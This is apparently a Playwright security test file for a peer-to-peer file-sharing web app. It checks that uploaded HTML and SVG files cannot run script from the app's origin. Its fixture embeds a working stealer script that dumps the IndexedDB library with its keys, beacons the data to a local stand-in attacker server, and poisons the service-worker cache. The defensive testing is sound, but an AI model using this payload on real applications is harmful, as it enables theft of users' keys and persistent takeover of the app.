// Files never run as the app. A file's maker chooses its bytes and its declared media type; the
// attack (issue 7, item 1): an HTML page or an SVG image with a script, once held on the victim's
// device, is loaded from the app's origin and its script reads every Library entry (with its key),
// sends them away and rewrites the precached app. Here each file carries such a script, wired to
// four tell-tales (a console line, localStorage, postMessage to its opener or parent, requests to
// a server of another origin the test watches), and is opened the ways a victim could: straight
// in a tab, in a frame of the app's own pages, in a frame of another origin's page, and through
// the app's own buttons. Real Chromium, real service worker and IndexedDB, a real `mycel serve`.
import { readFile } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import { addFile, download, expect, openApp, test, type MycelServer } from './fixtures.js';
import { FILE_SECURITY_HEADERS } from '../../src/content/presentation.js';

/** Another origin: it frames what it is asked to and logs every request (the stolen data's sink). */
interface Attacker {
  readonly port: number;
  readonly hits: string[];
  close(): Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    const url = new URL(req.url ?? '/', 'http://attacker');
    if (url.pathname === '/frame') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><title>cat pictures</title><iframe src="${url.searchParams.get('src')}"></iframe>`);
      return;
    }
    res.writeHead(204, { 'access-control-allow-origin': '*' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return {
    port,
    hits,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** The attack: read the Library from IndexedDB, report it four ways, poison the precached app. */
function stealer(sink: string): string {
  return `
(function () {
  function tell(what) {
    try { console.log('HOSTILE ' + what); } catch (e) {}
    try { localStorage.setItem('hostile', what); } catch (e) {}
    try { (window.opener || window.parent).postMessage('HOSTILE ' + what, '*'); } catch (e) {}
    try { fetch('${sink}/beacon?' + encodeURIComponent(what), { mode: 'no-cors' }); } catch (e) {}
    try { new Image().src = '${sink}/beacon?img=' + encodeURIComponent(what); } catch (e) {}
  }
  tell('ran at ' + location.origin);
  try {
    var open = indexedDB.open('mycel');
    open.onsuccess = function () {
      var all = open.result.transaction('library').objectStore('library').getAll();
      all.onsuccess = function () { tell('library ' + JSON.stringify(all.result)); };
    };
    open.onerror = function () { tell('indexedDB refused'); };
  } catch (e) { tell('indexedDB threw ' + e.name); }
  try {
    caches.keys().then(function (names) { names.forEach(function (name) {
      caches.open(name).then(function (cache) { cache.keys().then(function (requests) {
        requests.forEach(function (request) {
          if (request.url.indexOf('index.html') >= 0) {
            cache.put(request, new Response('<h1>HOSTILE</h1>', { headers: { 'content-type': 'text/html' } }));
          }
        });
      }); });
    }); });
  } catch (e) {}
})();`;
}

const hostileHtml = (sink: string) =>
  Buffer.from(`<!doctype html><title>Invoice</title><p>Invoice</p><script>${stealer(sink)}</script>`);
const hostileSvg = (sink: string) =>
  Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="120" height="120">` +
      `<rect width="120" height="120" fill="tomato"/><script><![CDATA[${stealer(sink)}]]></script></svg>`,
  );

/** The hex root of a share link, which names the file on the file route. */
const rootOf = (link: string) => Buffer.from(link.split('#')[1]!.split('.')[0]!, 'base64url').toString('hex');
const fileRoute = (link: string, name: string) => `/mycel/file/${rootOf(link)}/${encodeURIComponent(name)}`;

interface Held {
  readonly name: string;
  readonly bytes: Buffer;
  readonly link: string;
  readonly path: string;
}

/** Adds files through the app's file picker, as the victim would; returns where each is served. */
async function addAll(page: Page, files: Array<{ name: string; bytes: Buffer; type: string }>): Promise<Held[]> {
  const held: Held[] = [];
  await openApp(page);
  // The file route is the service worker's: the app is installed before anything is added.
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
  for (const file of files) {
    await openApp(page);
    const link = await addFile(page, file.name, file.bytes, file.type);
    held.push({ name: file.name, bytes: file.bytes, link, path: fileRoute(link, file.name) });
  }
  return held;
}

/** Records, in every page and frame of the context, what a script from a file could leave behind. */
async function watch(context: BrowserContext): Promise<{ console: string[] }> {
  const seen = { console: [] as string[] };
  context.on('console', (message) => seen.console.push(message.text()));
  await context.addInitScript(() => {
    const w = window as unknown as { hostileMessages: string[] };
    w.hostileMessages = [];
    addEventListener('message', (event) => w.hostileMessages.push(String(event.data)));
  });
  return seen;
}

/** No tell-tale of the script: no console line, no request to the sink, no localStorage, no message. */
async function expectNoScriptRan(pages: Page[], seen: { console: string[] }, attacker: Attacker): Promise<void> {
  expect(seen.console.filter((line) => line.includes('HOSTILE'))).toEqual([]);
  expect(attacker.hits.filter((hit) => hit.startsWith('/beacon'))).toEqual([]);
  for (const page of pages) {
    // A sandboxed file document has no storage of its own to look in.
    expect(await page.evaluate(() => (origin === 'null' ? null : localStorage.getItem('hostile')))).toBeNull();
    expect(
      await page.evaluate(() => (window as unknown as { hostileMessages?: string[] }).hostileMessages ?? []),
    ).toEqual([]);
  }
}

/** The app still opens as itself: the precached index.html is the one the server sent. */
async function expectAppIntact(page: Page, server: MycelServer, names: string[]): Promise<void> {
  await page.goto('/');
  await expect(page.getByRole('heading', { name: 'Share files' })).toBeVisible();
  for (const name of names) await expect(page.getByRole('listitem', { name })).toBeVisible();
  const served = await (await fetch(`${server.url}/index.html`)).text();
  const cached = await page.evaluate(async () => (await caches.match('/index.html', { ignoreSearch: true }))?.text());
  expect(cached).toBe(served);
}

let attacker: Attacker;
test.beforeEach(async () => {
  attacker = await startAttacker();
});
test.afterEach(async () => {
  await attacker.close();
});

const hostileFiles = () => {
  const sink = `http://127.0.0.1:${attacker.port}`;
  return [
    { name: 'invoice.html', bytes: hostileHtml(sink), type: 'text/html' },
    { name: 'logo.svg', bytes: hostileSvg(sink), type: 'image/svg+xml' },
  ];
};

test('opened straight in a tab, a hostile HTML or SVG file downloads instead of rendering, and runs no script', async ({
  page,
  context,
  server,
}) => {
  const seen = await watch(context);
  const held = await addAll(page, hostileFiles());
  for (const file of held) {
    const tab = await context.newPage();
    const saved = tab.waitForEvent('download');
    // Chromium reports a navigation that becomes a download as a failed goto.
    await tab.goto(file.path).catch((error: Error) => expect(error.message).toContain('Download is starting'));
    const got = await saved;
    expect(got.suggestedFilename()).toBe(file.name);
    expect((await readFile(await got.path())).equals(file.bytes)).toBe(true);
    await expectNoScriptRan([page, tab], seen, attacker);
    await tab.close();
  }
  await expectAppIntact(
    page,
    server,
    held.map((f) => f.name),
  );
});

test("framed by the app's own page, a hostile HTML or SVG file downloads instead of rendering, and runs no script", async ({
  page,
  context,
  server,
}) => {
  const seen = await watch(context);
  const held = await addAll(page, hostileFiles());
  for (const file of held) {
    const saved = page.waitForEvent('download');
    await page.evaluate((src) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
    }, file.path);
    expect((await saved).suggestedFilename()).toBe(file.name);
    // The frame never became the file's document: it is still the empty frame the app made.
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(await frame!.evaluate(() => document.documentElement.outerHTML)).not.toContain('Invoice');
    await expectNoScriptRan([page], seen, attacker);
    await page.evaluate(() => document.querySelectorAll('iframe').forEach((f) => f.remove()));
  }
  await expectAppIntact(
    page,
    server,
    held.map((f) => f.name),
  );
});

test('a page of another origin cannot frame a held file, and a hostile one framed there runs no script', async ({
  page,
  context,
  server,
}) => {
  const seen = await watch(context);
  const png = await readFile(path.join(import.meta.dirname, '..', '..', 'public', 'icons', 'icon-192.png'));
  const [html, svg, image] = await addAll(page, [
    ...hostileFiles(),
    { name: 'photo.png', bytes: png, type: 'image/png' },
  ]);
  const target = (file: Held) => encodeURIComponent(`${server.url}${file.path}`);
  const refused = (line: string) => line.includes("frame-ancestors 'self'");

  // Same site, other port: the same storage partition, so the app's service worker answers, and
  // its frame-ancestors refuses the frame.
  const sameSite = await context.newPage();
  await sameSite.goto(`http://localhost:${attacker.port}/frame?src=${target(image!)}`);
  await expect.poll(() => seen.console.filter(refused).length).toBe(1);
  expect(sameSite.frames()[1]!.url()).toBe('chrome-error://chromewebdata/');
  // Hostile types are attachments: the frame asks for a download (the bytes land in Downloads, as
  // if the victim had pressed Download), nothing renders.
  for (const file of [html!, svg!]) {
    const saved = sameSite.waitForEvent('download');
    await sameSite.goto(`http://localhost:${attacker.port}/frame?src=${target(file)}`);
    expect((await saved).suggestedFilename()).toBe(file.name);
  }

  // Another site: a separate storage partition, so the request reaches the server, which answers
  // the file route with a 404 under the same policy, and the frame is refused too.
  const otherSite = await context.newPage();
  for (const file of [html!, svg!, image!]) {
    const before = seen.console.filter(refused).length;
    await otherSite.goto(`http://127.0.0.1:${attacker.port}/frame?src=${target(file)}`);
    await expect.poll(() => seen.console.filter(refused).length).toBeGreaterThan(before);
  }
  await expectNoScriptRan([page, sameSite, otherSite], seen, attacker);
  await expectAppIntact(page, server, [html!.name, svg!.name, image!.name]);
});

test('the app offers no viewer for a hostile HTML or SVG file, and Download saves its exact bytes', async ({
  page,
  context,
  server,
}) => {
  const seen = await watch(context);
  const held = await addAll(page, hostileFiles());
  for (const file of held) {
    const saved = await download(page, file.link);
    expect(saved.equals(file.bytes)).toBe(true);
    await expect(page.getByRole('heading', { name: file.name })).toBeVisible();
    await expect(page.getByRole('button', { name: 'View' })).toHaveCount(0);
  }
  await expectNoScriptRan([page], seen, attacker);
  await expectAppIntact(
    page,
    server,
    held.map((f) => f.name),
  );
});

test('every answer on the file route carries the file policy headers, from the service worker and from the server', async ({
  page,
  server,
}) => {
  const [html] = await addAll(page, hostileFiles());
  const answers = await page.evaluate(
    async ({ file, missing }) => {
      const ask = async (url: string, init: RequestInit = {}) => {
        const response = await fetch(url, init);
        return { status: response.status, headers: Object.fromEntries(response.headers) };
      };
      return [
        await ask(file),
        await ask(file, { method: 'HEAD' }),
        await ask(file, { headers: { Range: 'bytes=5-9' } }),
        await ask(file, { headers: { Range: 'bytes=999999-' } }),
        await ask(missing),
      ];
    },
    { file: html!.path, missing: `/mycel/file/${'ab'.repeat(32)}/x` },
  );
  expect(answers.map((a) => a.status)).toEqual([200, 200, 206, 416, 404]);
  for (const answer of answers) expect(answer.headers).toMatchObject(FILE_SECURITY_HEADERS);
  expect(answers[0]!.headers).toMatchObject({
    'content-type': 'application/octet-stream',
    'content-disposition': `attachment; filename="invoice.html"; filename*=UTF-8''invoice.html`,
  });
  // Without the service worker (another site's partition, a hard reload) the server answers.
  for (const method of ['GET', 'HEAD']) {
    const direct = await fetch(`${server.url}${html!.path}`, { method });
    expect(direct.status).toBe(404);
    expect(Object.fromEntries(direct.headers)).toMatchObject(FILE_SECURITY_HEADERS);
  }
});

test('a file claiming a passive type while holding HTML shows as that type, and its document cannot open IndexedDB', async ({
  page,
  context,
}) => {
  const seen = await watch(context);
  const sink = `http://127.0.0.1:${attacker.port}`;
  const [text, fakeImage] = await addAll(page, [
    { name: 'notes.txt', bytes: hostileHtml(sink), type: 'text/plain; charset=utf-7' },
    { name: 'photo.png', bytes: hostileHtml(sink), type: 'image/png' },
  ]);
  const tab = await context.newPage();
  const shown = await tab.goto(text!.path);
  expect(shown?.headers()['content-type']).toBe('text/plain; charset=utf-8');
  await expect(tab.locator('body')).toContainText('<script>');
  // Even if something ran in the file's document, it is sandboxed: an opaque origin, no IndexedDB.
  expect(await tab.evaluate(() => origin)).toBe('null');
  expect(
    await tab.evaluate(() => {
      try {
        indexedDB.open('mycel');
        return 'opened';
      } catch (error) {
        return (error as Error).name;
      }
    }),
  ).toBe('SecurityError');

  const image = await tab.goto(fakeImage!.path);
  expect(image?.headers()['content-type']).toBe('image/png');
  await expect.poll(() => tab.evaluate(() => document.querySelector('img')?.complete)).toBe(true);
  expect(await tab.evaluate(() => document.querySelector('img')!.naturalWidth)).toBe(0);

  // Viewed in the app, the text file is text too.
  await page.goto(text!.link);
  await page.getByRole('button', { name: 'View' }).click();
  await expect(page.frameLocator('iframe[title="notes.txt"]').locator('body')).toContainText('<script>');
  await expectNoScriptRan([page, tab], seen, attacker);
});

test('a passive image opened straight shows in a sandboxed document with no policy violation', async ({
  page,
  context,
}) => {
  const seen = await watch(context);
  const png = await readFile(path.join(import.meta.dirname, '..', '..', 'public', 'icons', 'icon-192.png'));
  const [image] = await addAll(page, [{ name: 'photo.png', bytes: png, type: 'image/png' }]);
  const tab = await context.newPage();
  const response = await tab.goto(image!.path);
  expect(response?.headers()).toMatchObject({ ...FILE_SECURITY_HEADERS, 'content-type': 'image/png' });
  expect(response?.headers()['content-disposition']).toMatch(/^inline;/);
  await expect.poll(() => tab.evaluate(() => document.querySelector('img')?.naturalWidth)).toBe(192);
  expect(await tab.evaluate(() => origin)).toBe('null');
  // Chromium's image document styles itself inline: the policy's one allowance keeps that quiet.
  expect(seen.console.filter((line) => line.includes('Content Security Policy'))).toEqual([]);
});

test('a PDF views in the page under the sandbox policy', async ({ page }) => {
  const pdf = minimalPdf('HELLO PDF');
  const [file] = await addAll(page, [{ name: 'letter.pdf', bytes: pdf, type: 'application/pdf' }]);
  await page.goto(file!.link);
  await page.getByRole('button', { name: 'View' }).click();
  await expect(page.locator('iframe[title="letter.pdf"]')).toBeVisible();
  // Chromium's PDF viewer sizes its page box from the document it parsed: a 300×200 pt page.
  await expect
    .poll(async () => {
      for (const frame of page.frames()) {
        const width = await frame
          .evaluate(() => document.getElementById('sizer')?.getBoundingClientRect().width)
          .catch(() => undefined);
        if (width) return width;
      }
      return 0;
    })
    .toBeGreaterThan(0);
});

test("the app's own policy lets it reach its origin's WebSocket, and nothing on another host", async ({ page }) => {
  await page.addInitScript(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { violations: string[] }).violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
  const response = await page.goto('/');
  expect(response?.headers()['content-security-policy']).toContain("connect-src 'self';");
  // Connected: signaling is a ws: URL on the page's own origin, which 'self' covers.
  await openApp(page);
  const elsewhere = `ws://127.0.0.1:${attacker.port}/`;
  await page.evaluate((url) => {
    try {
      new WebSocket(url);
    } catch {
      // Refused synchronously or by the violation event: either is a refusal.
    }
  }, elsewhere);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations))
    .toContain(`connect-src ${elsewhere}`);
  expect(attacker.hits).toEqual([]);
});

/** A one-page PDF with one line of text, small enough to build here. */
function minimalPdf(text: string): Buffer {
  const stream = `BT /F1 36 Tf 20 100 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  out += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
